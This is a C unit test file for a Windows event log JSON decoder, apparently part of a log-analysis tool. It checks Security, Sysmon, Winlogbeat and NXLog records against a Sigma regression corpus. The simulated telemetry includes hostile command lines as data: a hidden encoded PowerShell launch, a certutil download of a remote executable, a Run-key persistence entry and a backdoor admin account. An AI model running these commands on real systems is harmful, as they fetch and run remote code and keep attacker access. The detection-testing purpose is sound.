/* Unit tests: Windows event log JSON (decode_windows.c): the evtx_dump
 * shape, Winlogbeat documents and flat NXLog-style documents. The
 * hand-written records are in tests/fixtures/windows/windows.json, one per
 * line, in the order tested; test_sigma_corpus decodes every event of the
 * Sigma regression data set. */
#include <ftw.h>
#include <jansson.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "canh/buf.h"
#include "decode_int.h"

#define JSON_TEST_TYPE "windows"
#define JSON_TEST_FIXTURE "/windows/windows.json"
#define JSON_TEST_MIN_LINES 17
#include "test_json_util.h"

/* ---- Security log ------------------------------------------------------------- */
static void test_4625(void **st)
{
    (void)st;
    decode_line(0);
    expect_time("2024-04-30T03:12:45.123456Z");
    expect("event.dataset", "windows");
    expect_slot(CANH_F_WINLOG_EVENT_ID, "4625");
    expect_slot(CANH_F_EVENT_CODE, "4625");
    expect_slot(CANH_F_WINLOG_CHANNEL, "Security");
    expect_slot(CANH_F_WINLOG_PROVIDER_NAME, "Microsoft-Windows-Security-Auditing");
    expect_slot(CANH_F_EVENT_PROVIDER, "Microsoft-Windows-Security-Auditing");
    expect_slot(CANH_F_WINLOG_COMPUTER_NAME, "DC01.corp.example.vn");
    expect_slot(CANH_F_HOST_NAME, "DC01.corp.example.vn");
    expect_slot(CANH_F_WINLOG_RECORD_ID, "998877");
    expect_slot(CANH_F_EVENT_MODULE, "security");
    expect_slot(CANH_F_EVENT_KIND, "event");
    expect_slot(CANH_F_EVENT_ACTION, "logon-failed");
    expect_slot(CANH_F_EVENT_CATEGORY, "authentication");
    expect_slot(CANH_F_EVENT_TYPE, "start");
    expect_slot(CANH_F_EVENT_OUTCOME, "failure");
    expect_slot(CANH_F_USER_NAME, "administrator");
    expect_slot(CANH_F_USER_DOMAIN, "CORP");
    expect_slot(CANH_F_USER_ID, "S-1-0-0");
    expect_slot(CANH_F_SOURCE_IP, "203.0.113.99");
    expect_slot(CANH_F_SOURCE_PORT, "49822");
    expect_slot(CANH_F_SOURCE_DOMAIN, "KALI");
    expect_slot(CANH_F_WINLOG_LOGON_TYPE, "Network");
    expect_slot(CANH_F_ERROR_CODE, "0xc000006a");
    expect_slot(CANH_F_LOG_LEVEL, "information");
    assert_false(canh_event_has(ev, CANH_F_PROCESS_PID)); /* 0x0: no process */
    assert_false(canh_event_has(ev, CANH_F_PROCESS_EXECUTABLE));
    /* every EventData field under its own name */
    expect("winlog.event_data.TargetUserName", "administrator");
    expect("winlog.event_data.SubjectUserName", "-");
    expect("winlog.event_data.Status", "0xc000006d");
    expect("winlog.event_data.SubStatus", "0xc000006a");
    expect("winlog.event_data.FailureReason", "%%2313");
    expect("winlog.event_data.LogonType", "3");
    expect("winlog.event_data.LogonProcessName", "NtLmSsp ");
    expect("winlog.event_data.IpAddress", "203.0.113.99");
    expect("winlog.event_data.ProcessId", "0x0");
    /* the System block */
    expect("winlog.provider_guid", "54849625-5478-4994-A5BA-3E3B0328C30D");
    expect("winlog.keywords", "0x8010000000000000");
    expect("winlog.process.pid", "652");
    expect("winlog.process.thread.id", "1234");
    expect("winlog.task", "12544");
    expect("winlog.version", "2");
    expect("winlog.level", "0");
    expect_absent("winlog.user.identifier"); /* Security: null */
    expect_absent("winlog.event_data.#attributes");
}

static void test_4624_data_list(void **st)
{
    (void)st;
    decode_line(1);
    expect_slot(CANH_F_EVENT_ACTION, "logged-in");
    expect_slot(CANH_F_EVENT_OUTCOME, "success");
    expect_slot(CANH_F_USER_NAME, "nguyen.van.a");
    expect_slot(CANH_F_USER_DOMAIN, "CORP");
    expect_slot(CANH_F_USER_ID, "S-1-5-21-1111-2222-3333-1104");
    expect_slot(CANH_F_SOURCE_IP, "10.20.30.40");         /* ::ffff: stripped */
    assert_false(canh_event_has(ev, CANH_F_SOURCE_PORT)); /* port 0 */
    expect_slot(CANH_F_WINLOG_LOGON_TYPE, "RemoteInteractive");
    expect_slot(CANH_F_PROCESS_EXECUTABLE, "C:\\Windows\\System32\\svchost.exe");
    expect_slot(CANH_F_PROCESS_NAME, "svchost.exe");
    expect_slot(CANH_F_PROCESS_PID, "756"); /* 0x2f4 */
    expect("winlog.event_data.IpAddress", "::ffff:10.20.30.40");
    expect("winlog.event_data.ElevatedToken", "%%1842");
    expect("winlog.event_data.SubjectUserName", "WS-07$");
    expect("winlog.event_data.LogonGuid", "{00000000-0000-0000-0000-000000000000}");
}

static void test_4688(void **st)
{
    (void)st;
    decode_line(2);
    expect_time("2024-04-30T03:14:00.500000Z");
    expect_slot(CANH_F_EVENT_ACTION, "created-process");
    expect_slot(CANH_F_EVENT_CATEGORY, "process");
    expect_slot(CANH_F_EVENT_TYPE, "start");
    expect_slot(CANH_F_PROCESS_EXECUTABLE,
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    expect_slot(CANH_F_PROCESS_NAME, "powershell.exe");
    expect_slot(CANH_F_PROCESS_PID, "6700");        /* NewProcessId 0x1a2c */
    expect_slot(CANH_F_PROCESS_PARENT_PID, "8000"); /* ProcessId 0x1f40 */
    expect_slot(CANH_F_PROCESS_COMMAND_LINE, "powershell.exe -nop -w hidden -enc SQBFAFgA");
    expect_slot(CANH_F_PROCESS_PARENT_EXECUTABLE, "C:\\Windows\\explorer.exe");
    expect_slot(CANH_F_PROCESS_PARENT_NAME, "explorer.exe");
    expect_slot(CANH_F_USER_NAME, "nguyen.van.a"); /* the subject, not "-" */
    expect_slot(CANH_F_USER_DOMAIN, "CORP");
    expect("winlog.event_data.NewProcessName",
           "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    expect("winlog.event_data.CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgA");
    expect("winlog.event_data.MandatoryLabel", "S-1-16-8192");
}

static void test_iam(void **st)
{
    (void)st;
    decode_line(3); /* 4720 */
    expect_slot(CANH_F_EVENT_ACTION, "user-created");
    expect_slot(CANH_F_EVENT_CATEGORY, "iam");
    expect_slot(CANH_F_EVENT_TYPE, "creation");
    expect_slot(CANH_F_EVENT_OUTCOME, "success");
    expect_slot(CANH_F_USER_NAME, "Administrator");
    expect_slot(CANH_F_USER_TARGET_NAME, "backdoor");
    expect_slot(CANH_F_USER_TARGET_DOMAIN, "CORP");
    expect_slot(CANH_F_USER_TARGET_ID, "S-1-5-21-1111-2222-3333-1190");
    expect("winlog.event_data.SamAccountName", "backdoor");
    expect("winlog.event_data.UserAccountControl", "%%2080 %%2082 %%2084");

    decode_line(4); /* 4732 */
    expect_slot(CANH_F_EVENT_ACTION, "added-member-to-group");
    expect_slot(CANH_F_GROUP_NAME, "Administrators");
    expect_slot(CANH_F_GROUP_ID, "S-1-5-32-544");
    expect("group.domain", "Builtin");
    expect_slot(CANH_F_USER_TARGET_NAME, "CN=backdoor,CN=Users,DC=corp,DC=example,DC=vn");
    expect_slot(CANH_F_USER_TARGET_ID, "S-1-5-21-1111-2222-3333-1190");
    expect_slot(CANH_F_USER_NAME, "Administrator");

    decode_line(5); /* 4740 */
    expect_slot(CANH_F_EVENT_ACTION, "user-locked-out");
    expect_slot(CANH_F_USER_TARGET_NAME, "tran.thi.b");
    expect_slot(CANH_F_USER_TARGET_DOMAIN, "WS-12");
    expect_slot(CANH_F_USER_NAME, "DC01$");
}

static void test_4776(void **st)
{
    (void)st;
    decode_line(6);
    expect_slot(CANH_F_EVENT_ACTION, "credential-validated");
    expect_slot(CANH_F_EVENT_OUTCOME, "failure"); /* Status */
    expect_slot(CANH_F_USER_NAME, "svc_backup");
    expect_slot(CANH_F_SOURCE_DOMAIN, "WS-66");
    expect_slot(CANH_F_ERROR_CODE, "0xc000006a");
}

/* ---- Sysmon ---------------------------------------------------------------------- */
static void test_sysmon_1(void **st)
{
    (void)st;
    decode_line(7);
    expect_time("2024-04-30T03:20:00.250000Z");
    expect_slot(CANH_F_EVENT_MODULE, "sysmon");
    expect_slot(CANH_F_EVENT_ACTION, "process-created");
    expect_slot(CANH_F_EVENT_CATEGORY, "process");
    expect_slot(CANH_F_EVENT_TYPE, "start");
    assert_false(canh_event_has(ev, CANH_F_EVENT_OUTCOME));
    expect_slot(CANH_F_WINLOG_CHANNEL, "Microsoft-Windows-Sysmon/Operational");
    expect_slot(CANH_F_WINLOG_EVENT_ID, "1");
    expect_slot(CANH_F_PROCESS_EXECUTABLE,
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    expect_slot(CANH_F_PROCESS_NAME, "powershell.exe");
    expect_slot(CANH_F_PROCESS_COMMAND_LINE,
                "powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\Public\\x.ps1");
    expect_slot(CANH_F_PROCESS_PID, "6700");
    expect_slot(CANH_F_PROCESS_ENTITY_ID, "{5770385F-1111-6630-4A01-000000000F00}");
    expect_slot(CANH_F_PROCESS_WORKING_DIRECTORY, "C:\\Users\\Public\\");
    expect_slot(CANH_F_PROCESS_PARENT_EXECUTABLE, "C:\\Windows\\System32\\cmd.exe");
    expect_slot(CANH_F_PROCESS_PARENT_NAME, "cmd.exe");
    expect_slot(CANH_F_PROCESS_PARENT_COMMAND_LINE, "cmd.exe /c run.bat");
    expect_slot(CANH_F_PROCESS_PARENT_PID, "4100");
    expect("process.parent.entity_id", "{5770385F-1111-6630-2B01-000000000F00}");
    expect_slot(CANH_F_USER_NAME, "nguyen.van.a");
    expect_slot(CANH_F_USER_DOMAIN, "CORP");
    expect_slot(CANH_F_PROCESS_HASH_SHA256,
                "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c");
    expect("process.hash.md5", "7353f60b1739074eb17c5f4dddefe239");
    expect("process.hash.sha1", "6cbce4a295c163791b60fc23d285e6d84f28ee4c");
    expect("process.pe.imphash", "741776aaccfc5b71ff59832dcdcace0f");
    expect_slot(CANH_F_LOG_LEVEL, "information");
    expect("winlog.user.identifier", "S-1-5-18");
    /* original names and values, numbers as numbers */
    expect("winlog.event_data.Image",
           "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    expect("winlog.event_data.ProcessId", "6700");
    expect("winlog.event_data.TerminalSessionId", "1");
    expect("winlog.event_data.Product", "Microsoft\xc2\xae Windows\xc2\xae Operating System");
    expect("winlog.event_data.Hashes",
           "SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C,MD5=7353F60B1739074EB17C5F4DDDEFE239,"
           "SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,"
           "IMPHASH=741776AACCFC5B71FF59832DCDCACE0F");
    expect("winlog.event_data.ParentUser", "CORP\\nguyen.van.a");
    expect("winlog.event_data.RuleName", "technique_id=T1059.001,technique_name=PowerShell");
}

static void test_sysmon_others(void **st)
{
    (void)st;
    decode_line(8); /* 3 */
    expect_slot(CANH_F_EVENT_ACTION, "network-connection-detected");
    expect_slot(CANH_F_EVENT_CATEGORY, "network");
    expect_slot(CANH_F_SOURCE_IP, "10.20.30.40");
    expect_slot(CANH_F_SOURCE_PORT, "50123");
    expect_slot(CANH_F_SOURCE_DOMAIN, "WS-07.corp.example.vn");
    expect_slot(CANH_F_DESTINATION_IP, "198.51.100.77");
    expect_slot(CANH_F_DESTINATION_PORT, "443");
    assert_false(canh_event_has(ev, CANH_F_DESTINATION_DOMAIN)); /* "-" */
    expect_slot(CANH_F_NETWORK_TRANSPORT, "tcp");
    expect_slot(CANH_F_NETWORK_DIRECTION, "egress");
    expect("winlog.event_data.DestinationPortName", "https");

    decode_line(9); /* 11 */
    expect_slot(CANH_F_EVENT_ACTION, "file-created");
    expect_slot(CANH_F_EVENT_TYPE, "creation");
    expect_slot(CANH_F_FILE_PATH, "C:\\Users\\Public\\payload.dll");
    expect_slot(CANH_F_FILE_NAME, "payload.dll");
    expect("winlog.event_data.TargetFilename", "C:\\Users\\Public\\payload.dll");

    decode_line(10); /* 13 */
    expect_slot(CANH_F_EVENT_ACTION, "registry-value-set");
    expect_slot(CANH_F_EVENT_CATEGORY, "configuration");
    expect_slot(CANH_F_REGISTRY_PATH, "HKU\\S-1-5-21-1111-2222-3333-1104\\SOFTWARE\\Microsoft\\"
                                      "Windows\\CurrentVersion\\Run\\Updater");
    expect_slot(CANH_F_REGISTRY_VALUE, "Updater");
    expect_slot(CANH_F_REGISTRY_DATA_STRINGS, "C:\\Users\\Public\\updater.exe");
    expect("winlog.event_data.EventType", "SetValue");

    decode_line(11); /* 22 */
    expect_slot(CANH_F_EVENT_ACTION, "dns-query");
    expect_slot(CANH_F_DNS_QUESTION_NAME, "update.badcdn.example");
    expect("winlog.event_data.QueryResults", "type:  5 cdn.badcdn.example;::ffff:198.51.100.77;");

    decode_line(12); /* 7: hashes are the loaded image's */
    expect_slot(CANH_F_EVENT_ACTION, "image-loaded");
    expect_slot(CANH_F_FILE_PATH, "C:\\Users\\Public\\payload.dll");
    expect_slot(CANH_F_PROCESS_NAME, "rundll32.exe");
    expect_slot(CANH_F_FILE_HASH_SHA256,
                "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
    expect_slot(CANH_F_FILE_HASH_MD5, "0123456789abcdef0123456789abcdef");
    assert_false(canh_event_has(ev, CANH_F_PROCESS_HASH_SHA256));
}

static void test_user_data(void **st)
{
    (void)st;
    decode_line(13); /* System 104 with UserData, EventID with Qualifiers */
    expect_slot(CANH_F_WINLOG_EVENT_ID, "104");
    expect_slot(CANH_F_WINLOG_CHANNEL, "System");
    expect_slot(CANH_F_EVENT_ACTION, "audit-log-cleared");
    expect_slot(CANH_F_EVENT_MODULE, "windows");
    expect("winlog.qualifiers", "");
    expect("winlog.user_data.SubjectUserName", "nguyen.van.a");
    expect("winlog.user_data.Channel", "System");
    expect("winlog.user_data.BackupPath", "");
    expect_absent("winlog.user_data.#attributes");
    expect_absent("winlog.user_data.xmlns");
    expect_slot(CANH_F_USER_NAME, "nguyen.van.a");
}

/* ---- other shapes ------------------------------------------------------------- */
static void test_winlogbeat(void **st)
{
    (void)st;
    decode_line(14);
    expect_time("2024-04-30T03:30:00.000000Z");
    expect_slot(CANH_F_WINLOG_EVENT_ID, "4625");
    expect_slot(CANH_F_WINLOG_CHANNEL, "Security");
    expect_slot(CANH_F_WINLOG_PROVIDER_NAME, "Microsoft-Windows-Security-Auditing");
    expect_slot(CANH_F_WINLOG_COMPUTER_NAME, "DC01.corp.example.vn");
    expect_slot(CANH_F_WINLOG_RECORD_ID, "1234567");
    expect_slot(CANH_F_HOST_NAME, "dc01.corp.example.vn"); /* the document's own */
    expect_slot(CANH_F_EVENT_CODE, "4625");
    expect_slot(CANH_F_EVENT_ACTION, "logon-failed");
    expect_slot(CANH_F_EVENT_CATEGORY, "authentication");
    expect_slot(CANH_F_EVENT_TYPE, "start");
    expect_slot(CANH_F_EVENT_OUTCOME, "failure");
    expect_slot(CANH_F_MESSAGE, "An account failed to log on.");
    expect_slot(CANH_F_WINLOG_LOGON_TYPE, "Network");
    expect_slot(CANH_F_USER_NAME, "admin");
    expect_slot(CANH_F_SOURCE_IP, "198.51.100.23");
    expect_slot(CANH_F_ERROR_CODE, "0xc0000064");
    expect("winlog.event_data.TargetUserName", "admin");
    expect("winlog.event_data.SubStatus", "0xc0000064");
    expect("winlog.logon.failure.reason", "Unknown user name or bad password.");
    expect("winlog.keywords", "[\"Audit Failure\"]");
    expect("winlog.process.thread.id", "4080");
    expect("agent.type", "winlogbeat");
    expect("event.created", "2024-04-30T03:30:01.512Z");

    /* no table entry: the outcome comes from the audit keywords */
    const char *l = "{\"@timestamp\":\"2024-04-30T03:30:00Z\",\"winlog\":{\"event_id\":4663,"
                    "\"channel\":\"Security\",\"keywords\":[\"Audit Success\"],"
                    "\"event_data\":{\"ObjectName\":\"C:\\\\secret.txt\"}}}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "windows");
    expect_slot(CANH_F_EVENT_OUTCOME, "success");
    expect("winlog.event_data.ObjectName", "C:\\secret.txt");
    assert_false(canh_event_has(ev, CANH_F_EVENT_ACTION));
    l = "{\"EventTime\":\"2024-04-30 10:31:00\",\"EventID\":4663,\"Channel\":\"Security\","
        "\"EventType\":\"AUDIT_FAILURE\",\"ObjectName\":\"x\"}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "windows");
    expect_slot(CANH_F_EVENT_OUTCOME, "failure");
    expect("winlog.event_type", "AUDIT_FAILURE");
    l = "{\"EventID\":4663,\"Channel\":\"Security\",\"Keywords\":-9218868437227405312}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "windows");
    expect_slot(CANH_F_EVENT_OUTCOME, "failure");
}

static void test_nxlog(void **st)
{
    (void)st;
    decode_line(15);
    expect_time("2024-04-30T10:31:00.000000Z"); /* zone-less: tref tz 0 */
    expect_slot(CANH_F_WINLOG_EVENT_ID, "1");
    expect_slot(CANH_F_WINLOG_CHANNEL, "Microsoft-Windows-Sysmon/Operational");
    expect_slot(CANH_F_WINLOG_PROVIDER_NAME, "Microsoft-Windows-Sysmon");
    expect_slot(CANH_F_WINLOG_COMPUTER_NAME, "WS-09.corp.example.vn");
    expect_slot(CANH_F_HOST_NAME, "WS-09.corp.example.vn");
    expect_slot(CANH_F_WINLOG_RECORD_ID, "88001");
    expect_slot(CANH_F_EVENT_ACTION, "process-created");
    expect_slot(CANH_F_MESSAGE, "Process Create:\r\nRuleName: -\r\nImage: "
                                "C:\\Windows\\System32\\certutil.exe");
    expect_slot(CANH_F_PROCESS_EXECUTABLE, "C:\\Windows\\System32\\certutil.exe");
    expect_slot(CANH_F_PROCESS_NAME, "certutil.exe");
    expect_slot(CANH_F_PROCESS_PID, "7100");
    expect_slot(CANH_F_PROCESS_PARENT_PID, "5004");
    expect_slot(CANH_F_USER_NAME, "tran.thi.b");
    expect_slot(CANH_F_USER_DOMAIN, "CORP");
    expect("process.hash.md5", "aaaabbbbccccddddeeeeffff00001111");
    expect("winlog.event_data.Image", "C:\\Windows\\System32\\certutil.exe");
    expect("winlog.event_data.CommandLine", "certutil.exe -urlcache -split -f "
                                            "http://198.51.100.77/a.exe C:\\Users\\Public\\a.exe");
    expect("winlog.event_data.ProcessId", "7100");
    expect("winlog.event_data.RuleName", "-");
    /* NXLog's own fields are not event data */
    expect_absent("winlog.event_data.Hostname");
    expect_absent("winlog.event_data.ProcessID");
    expect_absent("winlog.event_data.EventReceivedTime");
    expect_absent("winlog.event_data.AccountName");
    expect("winlog.process.pid", "3024");
    expect("winlog.user.name", "SYSTEM");
    expect("winlog.user.identifier", "S-1-5-18");
    expect("winlog.severity", "INFO");
    expect("winlog.source_module_type", "im_msvistalog");
    expect("winlog.keywords", "-9223372036854775808");
    expect("event.created", "2024-04-30 10:31:01");
}

static void test_flat_lowercase(void **st)
{
    (void)st;
    decode_line(16);
    expect_time("2024-04-30T03:32:00.000000Z");
    expect_slot(CANH_F_WINLOG_EVENT_ID, "4624");
    expect_slot(CANH_F_WINLOG_CHANNEL, "Security");
    expect_slot(CANH_F_WINLOG_RECORD_ID, "42");
    expect_slot(CANH_F_EVENT_ACTION, "logged-in");
    expect_slot(CANH_F_USER_NAME, "svc_sql");
    expect_slot(CANH_F_WINLOG_LOGON_TYPE, "Service");
    assert_false(canh_event_has(ev, CANH_F_SOURCE_IP));
    assert_false(canh_event_has(ev, CANH_F_SOURCE_PORT));
    expect("winlog.event_data.IpAddress", "-");
    expect_slot(CANH_F_PROCESS_NAME, "services.exe");
}

static void test_not_windows(void **st)
{
    (void)st;
    /* an event id alone, or a channel alone, is not enough */
    const char *l = "{\"EventID\":4625,\"user\":\"x\"}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "json");
    l = "{\"Channel\":\"Security\",\"user\":\"x\"}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "json");
    l = "{\"event_id\":17,\"channel\":\"#general\",\"text\":\"hi\"}"; /* a chat app */
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "json");
    l = "{\"EventID\":4104,\"Channel\":\"Microsoft-Windows-PowerShell/Operational\","
        "\"ScriptBlockText\":\"IEX x\"}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "windows");
    expect_slot(CANH_F_EVENT_ACTION, "powershell-script-block");
    expect("powershell.file.script_block_text", "IEX x");
    l = "{\"Event\":{\"x\":1}}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "json");
    l = "{\"winlog\":{\"foo\":1}}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "json");
    l = "{\"EventID\":{\"a\":1},\"Channel\":\"Security\"}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "json");
    assert_string_equal(decode_n(d_forced, "4625 Security", 13), "generic");

    /* odd but recognised: missing pieces, hostile values */
    l = "{\"Event\":{\"System\":{\"EventID\":\"abc\",\"TimeCreated\":{\"#attributes\":"
        "{\"SystemTime\":\"never\"}}},\"EventData\":null}}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "windows");
    expect_slot(CANH_F_WINLOG_EVENT_ID, "abc");
    assert_true(ev->flags & CANH_EVF_BAD_TIME);
    assert_false(canh_event_has(ev, CANH_F_EVENT_ACTION));
    l = "{\"Event\":{\"System\":{\"EventID\":4624,\"Channel\":\"Security\"},\"EventData\":"
        "{\"Data\":[\"unnamed\",{\"#text\":\"t\"},{\"#attributes\":{\"Name\":\"N\"}},"
        "{\"#attributes\":{\"Name\":\"IpAddress\"},\"#text\":\"999.1.1.1\"}],"
        "\"Binary\":\"00FF\"}}}";
    assert_string_equal(decode_n(d_auto, l, strlen(l)), "windows");
    expect("winlog.event_data.param1", "unnamed");
    expect("winlog.event_data.param2", "t");
    expect_absent("winlog.event_data.N"); /* no text */
    expect("winlog.event_data.IpAddress", "999.1.1.1");
    expect("winlog.event_data.Binary", "00FF");
    assert_false(canh_event_has(ev, CANH_F_SOURCE_IP));
}

static void test_prefixes(void **st)
{
    (void)st;
    for (size_t k = 0; k < nlines; k++) {
        size_t n = strlen(lines[k]);
        for (size_t i = 0; i < n; i += (k % 3) + 1) {
            const char *name = decode_n(d_forced, lines[k], i);
            if (strcmp(name, "generic") != 0)
                fail_msg("prefix %zu of line %zu decoded as %s", i, k, name);
        }
    }
}

/* ---- the Sigma regression data -------------------------------------------------------- */
static size_t corpus_docs, corpus_fields, corpus_files;

/* The event must hold prefix.<name> = v for every member of obj. */
static void check_data(json_t *obj, const char *prefix, const char *file)
{
    const char *k;
    json_t *v;
    json_object_foreach(obj, k, v)
    {
        if (strcmp(k, "#attributes") == 0 || json_is_null(v))
            continue;
        if (json_is_object(v) && json_object_get(v, "#text"))
            v = json_object_get(v, "#text");
        char name[512], want[64];
        snprintf(name, sizeof name, "%s.%s", prefix, k);
        const char *w;
        size_t wn;
        if (json_is_string(v)) {
            w = json_string_value(v);
            wn = json_string_length(v);
        } else if (json_is_integer(v)) {
            wn =
                (size_t)snprintf(want, sizeof want, "%" JSON_INTEGER_FORMAT, json_integer_value(v));
            w = want;
        } else {
            continue; /* no other kinds in the corpus */
        }
        canh_str_t got;
        if (canh_event_get_name(ev, canh_str_c(name), &got, NULL) != CANH_OK)
            fail_msg("%s: %s missing", file, name);
        if (got.n != wn || memcmp(got.p, w, wn) != 0)
            fail_msg("%s: %s = \"%.*s\", expected \"%.*s\"", file, name, (int)got.n, got.p, (int)wn,
                     w);
        corpus_fields++;
    }
}

static void check_doc(const char *file, json_t *doc)
{
    json_t *event = json_object_get(doc, "Event");
    if (strcmp(canh_decode_name(ev->decoder), "windows") != 0)
        fail_msg("%s: decoded as %s", file, canh_decode_name(ev->decoder));
    if (!canh_event_has(ev, CANH_F_WINLOG_EVENT_ID) || !canh_event_has(ev, CANH_F_WINLOG_CHANNEL))
        fail_msg("%s: no winlog.event_id or winlog.channel", file);
    if (ev->flags & (CANH_EVF_NO_TIME | CANH_EVF_BAD_TIME | CANH_EVF_OVERFLOW))
        fail_msg("%s: flags 0x%x", file, (unsigned)ev->flags);
    json_t *ed = json_object_get(event, "EventData");
    if (json_is_object(ed))
        check_data(ed, "winlog.event_data", file);
    json_t *ud = json_object_get(event, "UserData");
    const char *k;
    json_t *v;
    json_object_foreach(ud, k, v)
    {
        if (json_is_object(v))
            check_data(v, "winlog.user_data", file);
    }
    /* the ECS mapping agrees with the original fields */
    canh_str_t img = canh_str_c(json_string_value(json_object_get(ed, "Image")));
    canh_str_t cmd = canh_str_c(json_string_value(json_object_get(ed, "CommandLine")));
    if (img.n && !canh_str_eq_c(img, "-") &&
        !canh_str_eq(canh_event_get(ev, CANH_F_PROCESS_EXECUTABLE), img))
        fail_msg("%s: process.executable != Image", file);
    if (cmd.n && !canh_str_eq(canh_event_get(ev, CANH_F_PROCESS_COMMAND_LINE), cmd))
        fail_msg("%s: process.command_line != CommandLine", file);
    corpus_docs++;
}

static int visit(const char *path, const struct stat *sb, int type, struct FTW *ftw)
{
    (void)sb;
    (void)ftw;
    size_t n = strlen(path);
    if (type != FTW_F || n < 5 || strcmp(path + n - 5, ".json") != 0)
        return 0;
    FILE *f = fopen(path, "rb");
    assert_non_null(f);
    canh_buf_t b;
    canh_buf_init(&b, 64u << 20);
    char chunk[65536];
    size_t got;
    while ((got = fread(chunk, 1, sizeof chunk, f)) > 0)
        assert_int_equal(canh_buf_append(&b, chunk, got), CANH_OK);
    fclose(f);
    corpus_files++;
    /* A file holds one or more pretty-printed documents, one after
     * another: each is one record. */
    size_t off = 0;
    while (off < b.len) {
        while (off < b.len && (b.data[off] == ' ' || b.data[off] == '\n' || b.data[off] == '\r' ||
                               b.data[off] == '\t'))
            off++;
        if (off >= b.len)
            break;
        json_error_t err;
        json_t *doc = json_loadb(b.data + off, b.len - off, JSON_DISABLE_EOF_CHECK, &err);
        if (!doc)
            fail_msg("%s: unreadable test data: %s", path, err.text);
        size_t len = (size_t)err.position;
        assert_true(len > 0 && len <= b.len - off);
        decode_n(d_auto, b.data + off, len);
        check_doc(path, doc);
        /* forced type agrees */
        decode_n(d_forced, b.data + off, len);
        assert_string_equal(canh_decode_name(ev->decoder), "windows");
        json_decref(doc);
        off += len;
    }
    canh_buf_fini(&b);
    return 0;
}

static void test_sigma_corpus(void **st)
{
    (void)st;
    assert_int_equal(nftw(CANH_CORPORA "/sigma/regression_data", visit, 16, FTW_PHYS), 0);
    print_message("sigma regression data: %zu files, %zu events, %zu EventData fields checked\n",
                  corpus_files, corpus_docs, corpus_fields);
    assert_true(corpus_files >= 200);
    assert_true(corpus_docs >= corpus_files);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_4625),           cmocka_unit_test(test_4624_data_list),
        cmocka_unit_test(test_4688),           cmocka_unit_test(test_iam),
        cmocka_unit_test(test_4776),           cmocka_unit_test(test_sysmon_1),
        cmocka_unit_test(test_sysmon_others),  cmocka_unit_test(test_user_data),
        cmocka_unit_test(test_winlogbeat),     cmocka_unit_test(test_nxlog),
        cmocka_unit_test(test_flat_lowercase), cmocka_unit_test(test_not_windows),
        cmocka_unit_test(test_prefixes),       cmocka_unit_test(test_sigma_corpus),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
